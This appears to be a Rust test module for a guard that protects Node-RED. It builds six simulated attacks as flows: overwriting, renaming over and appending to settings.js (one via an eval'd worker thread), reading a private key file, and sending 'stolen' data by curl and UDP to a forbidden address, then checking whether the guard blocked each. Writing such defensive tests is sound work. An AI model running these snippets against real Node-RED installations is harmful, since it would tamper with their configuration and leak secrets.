//! The attacks of the demo.

use std::{path::PathBuf, time::Instant};

use anyhow::{Context as _, Result};
use flowwarden_tests::{
    flows::{FileAction, Flow, js},
    netns::Network,
    scene::Scene,
    sink::Sink,
    snapshot::{Snapshot, State},
    wait,
};

use super::report::Effect;

const SECRET: &str = "-----THE PRIVATE KEY-----";
pub(super) const INTACT: &str = "intact";
pub(super) const NOT_READ: &str = "key not read";
pub(super) const NO_PACKET: &str = "no packet arrived";
/// What each attack tries; a line has room for 29 characters.
pub(super) const TITLES: [&str; 6] = [
    "file node writes settings.js",
    "rename over settings.js",
    "worker appends to settings.js",
    "file-in node reads a key",
    "curl to a forbidden address",
    "UDP to a forbidden address",
];

/// Ids of the rules in the demo's policy.
pub(super) const SETTINGS_RULE: &str = "settings-js";
pub(super) const KEYS_RULE: &str = "private-keys";
pub(super) const ADDRESS_RULE: &str = "forbidden-net";

/// What an attack is after.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Target {
    Settings,
    Key,
    Tcp,
    Udp,
}

/// One attack.
pub(super) struct Attack {
    pub(super) title: &'static str,
    pub(super) flow: Flow,
    pub(super) target: Target,
    /// The rule that has to match.
    pub(super) rule: &'static str,
}

/// Everything that the attacks are after.
pub(super) struct Targets {
    settings: Snapshot,
    key: PathBuf,
    tcp: Sink,
    udp: Sink,
}

impl Targets {
    /// Makes the key and the forbidden addresses of a scene whose Node-RED has a settings.js.
    pub(super) fn new(scene: &Scene) -> Result<Self> {
        let home = scene.node_red.home();
        home.directory(".node-red/certs")?;
        Ok(Self {
            settings: Snapshot::take(&scene.node_red.settings())?,
            key: home.file(".node-red/certs/key.pem", SECRET)?,
            tcp: Sink::tcp(&scene.network, Network::FORBIDDEN)?,
            udp: Sink::udp(&scene.network, Network::FORBIDDEN)?,
        })
    }

    /// Waits until everything that was sent to the forbidden addresses has arrived.
    pub(super) fn settle(&self, scene: &Scene) -> Result<()> {
        [&self.tcp, &self.udp].into_iter().try_for_each(|sink| sink.settle(&scene.network))
    }

    /// The harm that an attack on this target has done by now; `since` marks Node-RED's console.
    pub(super) fn harm(&self, target: Target, scene: &Scene, since: usize) -> Result<Effect> {
        let arrived = |sink: &Sink, what: &str| match sink.count() {
            0 => Effect::None(NO_PACKET),
            count => Effect::Harm(format!("{count} {what}s arrived")),
        };
        Ok(match target {
            Target::Settings if self.settings.is_restored()? => Effect::None(INTACT),
            Target::Settings => Effect::Harm(
                match self.settings.state()? {
                    State::Emptied => "settings.js is empty",
                    State::Missing => "settings.js is gone",
                    _ => "settings.js changed",
                }
                .to_owned(),
            ),
            Target::Key => match scene.node_red.console().find(since, |line| line.contains(SECRET)) {
                None => Effect::None(NOT_READ),
                Some(_) => Effect::Harm("key printed".to_owned()),
            },
            Target::Tcp => arrived(&self.tcp, "connection"),
            Target::Udp => arrived(&self.udp, "datagram"),
        })
    }

    /// Waits until settings.js is what it was; false when it is not in time.
    pub(super) fn wait_until_restored(&self) -> Result<bool> {
        let mut restored = false;
        let start = Instant::now();
        wait::until("settings.js to be restored", wait::PATIENCE, || {
            restored = self.settings.is_restored()?;
            Ok((restored || start.elapsed() > super::LONGEST).then_some(()))
        })?;
        Ok(restored)
    }

    /// Puts settings.js back where the guard did not, so that the next attack has something to attack.
    pub(super) fn put_back(&mut self) -> Result<()> {
        self.settings.restore()
    }

    /// The attacks, in the order of [`TITLES`].
    pub(super) fn attacks(&self, scene: &Scene) -> Result<[Attack; 6]> {
        let path = scene.node_red.settings();
        let settings = js(&path);
        let (tcp, udp) = (self.tcp.address(), self.udp.address());
        let rename = format!(
            "fs.writeFileSync({settings} + '.new', 'module.exports = {{}}');
             fs.renameSync({settings} + '.new', {settings}); return msg;"
        );
        let append = format!(
            "const code = `require('fs').appendFileSync(${{JSON.stringify({settings})}}, 'TAMPERED')`;
             new worker_threads.Worker(code, {{ eval: true }}).on('exit', () => node.send(msg)); return;"
        );
        let send = format!(
            "const socket = dgram.createSocket('udp4');
             socket.send('stolen', {}, '{}', error => {{
                 socket.close();
                 error ? node.error(error.message, msg) : node.send(msg);
             }}); return;",
            udp.port(),
            udp.ip()
        );
        let flows = [
            (Flow::file(&path, FileAction::Overwrite, "module.exports = {}"), Target::Settings, SETTINGS_RULE),
            (Flow::function(&rename, &["fs"]), Target::Settings, SETTINGS_RULE),
            (Flow::function(&append, &["worker_threads"]), Target::Settings, SETTINGS_RULE),
            (Flow::file_in(&self.key), Target::Key, KEYS_RULE),
            (Flow::exec(&format!("curl --silent --show-error --max-time 5 http://{tcp}/")), Target::Tcp, ADDRESS_RULE),
            (Flow::function(&send, &["dgram"]), Target::Udp, ADDRESS_RULE),
        ];
        let mut titles = TITLES.into_iter();
        let named = flows.map(|(flow, target, rule)| Some(Attack { title: titles.next()?, flow, target, rule }));
        let named: Option<Vec<_>> = named.into_iter().collect();
        named.and_then(|attacks| attacks.try_into().ok()).context("an attack without a title")
    }
}
